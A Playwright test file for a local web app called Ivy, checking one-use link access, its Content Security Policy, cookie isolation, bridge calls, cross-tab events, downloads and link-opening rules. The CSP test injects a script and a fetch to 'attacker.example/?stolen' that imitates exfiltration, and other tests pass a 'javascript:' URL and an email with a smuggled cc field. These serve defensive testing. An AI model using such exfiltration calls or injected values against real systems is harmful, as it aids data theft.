import { writeFileSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { ServerEvent } from '#contract/answer';
import type { IvyBridge } from '#preload/bridge';
import { callFrom, expect, listenIn, startHost, test, watch } from '#test/support/host';

const passPhrase = 'four ordinary words';
const owner = { name: 'Ada Lovelace', email: 'ada@school.example', passPhrase, workspace: 'both' } as const;
const changed = (topic: string) => (event: ServerEvent): boolean => event.kind === 'changed' && event.changes.some((change) => change.topic === topic);
type WithBridge = Window & { readonly ivy: IvyBridge };

test('the link lets one browser in, once, and its address is clean afterwards', async ({ host, page, browser }) => {
  await page.goto(host.link);
  expect(page.url()).toBe(`${host.origin}/`);
  await expect(page).toHaveTitle('Ivy');
  const stranger = await browser.newContext();
  const outside = await stranger.newPage();
  const refused = await outside.goto(host.link);
  expect(refused?.status()).toBe(403);
  await expect(outside.getByRole('heading')).toHaveText('This link has been used');
  expect((await outside.goto(`${host.origin}/`))?.status()).toBe(403);
  await stranger.close();
  await page.goto(host.link);
  expect(page.url()).toBe(`${host.origin}/`);
});

test('the page keeps to its policy and complains of nothing', async ({ host, page }) => {
  const complaints = await watch(page);
  const reply = await page.goto(host.link);
  expect(reply?.headers()['content-security-policy']).toMatch(/^default-src 'none'; script-src 'self' 'nonce-/);
  await page.waitForLoadState('networkidle');
  await page.goto(`${host.origin}/leads/some/where`);
  await page.waitForLoadState('networkidle');
  expect(complaints).toEqual({ violations: [], errors: [] });
});

test('the policy stops a script and a style that crept in, and any way out', async ({ app }) => {
  const complaints = await watch(app);
  await app.reload();
  await app.evaluate(async () => {
    const script = document.createElement('script');
    script.textContent = 'window.crept = true';
    document.body.append(script);
    const style = document.createElement('style');
    style.textContent = 'body { color: red }';
    document.body.append(style);
    const frame = document.createElement('iframe');
    frame.src = 'https://attacker.example/';
    document.body.append(frame);
    await fetch('https://attacker.example/?stolen').catch(() => undefined);
    await new Promise((done) => setTimeout(done, 200));
  });
  expect(await app.evaluate(() => 'crept' in window)).toBe(false);
  expect(complaints.violations.map((violation) => violation.split(' ')[0]).sort()).toEqual(['connect-src', 'frame-src', 'script-src-elem', 'style-src-elem']);
});

test('no script of the page can read a cookie or a token', async ({ app, context }) => {
  const made = await callFrom(app, 'platform.workspaces.create', owner);
  const cookies = await context.cookies();
  expect(cookies.map(({ name }) => name.replace(/\d+$/, '')).sort()).toEqual(['ivy_door_', 'ivy_session_']);
  for (const cookie of cookies) expect(cookie).toMatchObject({ httpOnly: true, sameSite: 'Strict', path: '/', domain: '127.0.0.1' });
  expect(await app.evaluate(() => document.cookie)).toBe('');
  expect(JSON.stringify(made)).not.toContain(cookies.find(({ name }) => name.startsWith('ivy_session_'))?.value);
});

test('the bridge calls an entry, and answers a refusal with words', async ({ app }) => {
  expect(await app.evaluate(() => Object.isFrozen((window as unknown as WithBridge).ivy))).toBe(true);
  expect(await callFrom(app, 'platform.workspaces.status')).toMatchObject({ state: 'missing' });
  const refused = await app.evaluate(() => (window as unknown as WithBridge).ivy.call(1, 'no.such.entry', {}));
  expect(refused).toMatchObject({ ok: false, error: { code: 'unknown_entry' } });
});

test('a tab hears what another tab has changed, and what a sign-in there means for it', async ({ app, context, host }) => {
  await callFrom(app, 'platform.workspaces.create', owner);
  const other = await context.newPage();
  await other.goto(`${host.origin}/`);
  const heard = await listenIn(other);
  await expect.poll(async () => {
    await callFrom(app, 'platform.users.create', { name: 'Some Staff', email: `s${String(Math.random()).slice(2)}@school.example`, role: 'staff', passPhrase });
    return (await heard()).some(changed('users'));
  }).toBe(true);
  await callFrom(app, 'platform.sessions.signOut');
  await expect.poll(async () => (await heard()).some(({ kind }) => kind === 'sessionEnded')).toBe(true);
  await callFrom(app, 'platform.sessions.signIn', { email: owner.email, passPhrase });
  await expect.poll(async () => (await heard()).some(({ kind }) => kind === 'reconnected')).toBe(true);
});

test('a tab that was out of touch says so, tries again, and hears of the way back', async ({ context, page }) => {
  const first = await startHost();
  await page.goto(first.link);
  await callFrom(page, 'platform.workspaces.create', owner);
  const heard = await listenIn(page);
  await first.stop();
  const answer = await page.evaluate(() => (window as unknown as WithBridge).ivy.call(1, 'platform.workspaces.status', {}));
  expect(answer).toMatchObject({ ok: false, error: { code: 'unavailable', message: expect.stringMatching(/start it again/) } });
  // The same place, so that the page still belongs to it; a new host knows no old key, and lets the browser in by its new link.
  const second = await startHost({ profile: first.profile, port: Number(new URL(first.origin).port) });
  const another = await context.newPage();
  await another.goto(second.link);
  await expect.poll(async () => (await heard()).some(({ kind }) => kind === 'reconnected'), { timeout: 30_000 }).toBe(true);
  await second.stop();
});

test('a tab that nobody looks at gives its stream back, and hears of everything at once when somebody does again', async ({ app, context, host }) => {
  await callFrom(app, 'platform.workspaces.create', owner);
  const hidden = await context.newPage();
  await hidden.clock.install();
  await hidden.goto(`${host.origin}/`);
  const heard = await listenIn(hidden);
  const show = (state: 'hidden' | 'visible'): Promise<void> =>
    hidden.evaluate((given) => {
      Object.defineProperty(document, 'visibilityState', { configurable: true, get: () => given });
      document.dispatchEvent(new Event('visibilitychange'));
    }, state);
  const addUser = (email: string) => callFrom(app, 'platform.users.create', { name: 'Some Staff', email, role: 'staff', passPhrase });
  await expect.poll(async () => {
    await addUser(`s${String(Math.random()).slice(2)}@school.example`);
    return (await heard()).some(changed('users'));
  }).toBe(true);
  await show('hidden');
  await hidden.clock.fastForward(11_000);
  const before = (await heard()).length;
  await addUser('unheard@school.example');
  await app.waitForTimeout(300);
  expect(await heard()).toHaveLength(before);
  await show('visible');
  await expect.poll(async () => (await heard()).at(-1)).toEqual({ kind: 'reconnected' });
});

test('a call can be cancelled', async ({ app, page }) => {
  await page.route('**/rpc/platform.workspaces.status', () => undefined);
  const answer = await app.evaluate(async () => {
    const { ivy } = window as unknown as WithBridge;
    const called = ivy.call(7, 'platform.workspaces.status', {});
    ivy.cancel(7);
    return called;
  });
  expect(answer).toMatchObject({ ok: false, error: { code: 'cancelled' } });
});

test('a file is chosen, and a result saved, as a browser does it', async ({ app, host }) => {
  await callFrom(app, 'platform.workspaces.create', owner);
  const path = join(host.profile, 'Möglich leads.csv');
  writeFileSync(path, 'name\nZara\n');
  const choosing = app.waitForEvent('filechooser');
  const chosen = app.evaluate(() => (window as unknown as WithBridge).ivy.chooseFile({ title: 'Leads', extensions: ['csv'] }));
  await (await choosing).setFiles(path);
  expect(await chosen).toMatchObject({ name: 'Möglich leads.csv', bytes: 10, fileId: expect.any(String) });
  expect(await app.locator('input[type=file]').count()).toBe(0);

  const { jobId } = (await callFrom(app, 'platform.audit.export')) as unknown as { jobId: string };
  let downloadId = '';
  await expect.poll(async () => {
    const job = await callFrom(app, 'platform.jobs.get', { jobId });
    downloadId = (job.result as { downloadId?: string } | null)?.downloadId ?? '';
    return downloadId;
  }).not.toBe('');
  const downloading = app.waitForEvent('download');
  expect(await app.evaluate((id) => (window as unknown as WithBridge).ivy.saveDownload(id, 'ignored.csv'), downloadId)).toBe(true);
  const download = await downloading;
  expect(download.suggestedFilename()).toBe('audit.csv');
  expect(readFileSync(await download.path(), 'utf8')).toContain('platform.workspaces.create');
  const gone = app.evaluate(() => (window as unknown as WithBridge).ivy.saveDownload('0192f0c1-2345-7abc-8def-0123456789ab', 'x'));
  await expect(gone).rejects.toThrow(/no longer at hand/);
});

test('only https links leave the app, and without a way back into it', async ({ app, context }) => {
  await context.route('https://school.example/**', (route) => route.fulfill({ contentType: 'text/html', body: '<title>Outside</title>' }));
  const opening = context.waitForEvent('page');
  await app.evaluate(() => (window as unknown as WithBridge).ivy.openLink('https://school.example/course'));
  const outside = await opening;
  await expect(outside).toHaveTitle('Outside');
  expect(await outside.evaluate(() => window.opener === null && document.referrer === '')).toBe(true);
  for (const link of ['http://school.example/', 'javascript:alert(1)', 'https://user@school.example/']) {
    await expect(app.evaluate((url) => (window as unknown as WithBridge).ivy.openLink(url), link)).rejects.toThrow(/only https/);
  }
  await expect(app.evaluate(() => (window as unknown as WithBridge).ivy.contact('email', 'ada@school.example?cc=eve'))).rejects.toThrow(/not an address/);
});
